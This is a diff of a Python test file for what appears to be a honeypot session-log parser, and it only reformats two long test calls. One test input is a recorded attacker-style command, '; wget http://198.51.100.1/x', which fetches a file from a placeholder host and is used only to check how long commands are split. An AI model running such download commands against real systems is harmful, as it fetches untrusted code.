@@ -110,7 +110,9 @@ def test_a_line_without_sensor_joins_its_session() -> None:
     source = make()
     bare = json.loads(row("command.input", 1, input="id"))
     del bare["sensor"]
-    events = feed(source, row("session.connect") + json.dumps(bare).encode() + b"\n" + row("session.closed", 2))
+    events = feed(
+        source, row("session.connect") + json.dumps(bare).encode() + b"\n" + row("session.closed", 2)
+    )
     assert of(events, "session.ended")[0]["command_count"] == 1
 
 
@@ -127,7 +129,9 @@ def test_long_sessions_come_in_parts_and_nothing_is_lost() -> None:
 def test_a_command_longer_than_the_limit_is_kept_in_pieces() -> None:
     source = make(max_text=1000)
     text = "\U0001f600" * 2000 + "; wget http://198.51.100.1/x"
-    events = feed(source, row("session.connect") + row("command.input", 1, input=text) + row("session.closed", 2))
+    events = feed(
+        source, row("session.connect") + row("command.input", 1, input=text) + row("session.closed", 2)
+    )
     ended = of(events, "session.ended")[0]
     assert ended["command_count"] == 1
     assert "wget http://198.51.100.1/x" in ended["commands"][-1]["command_text"]
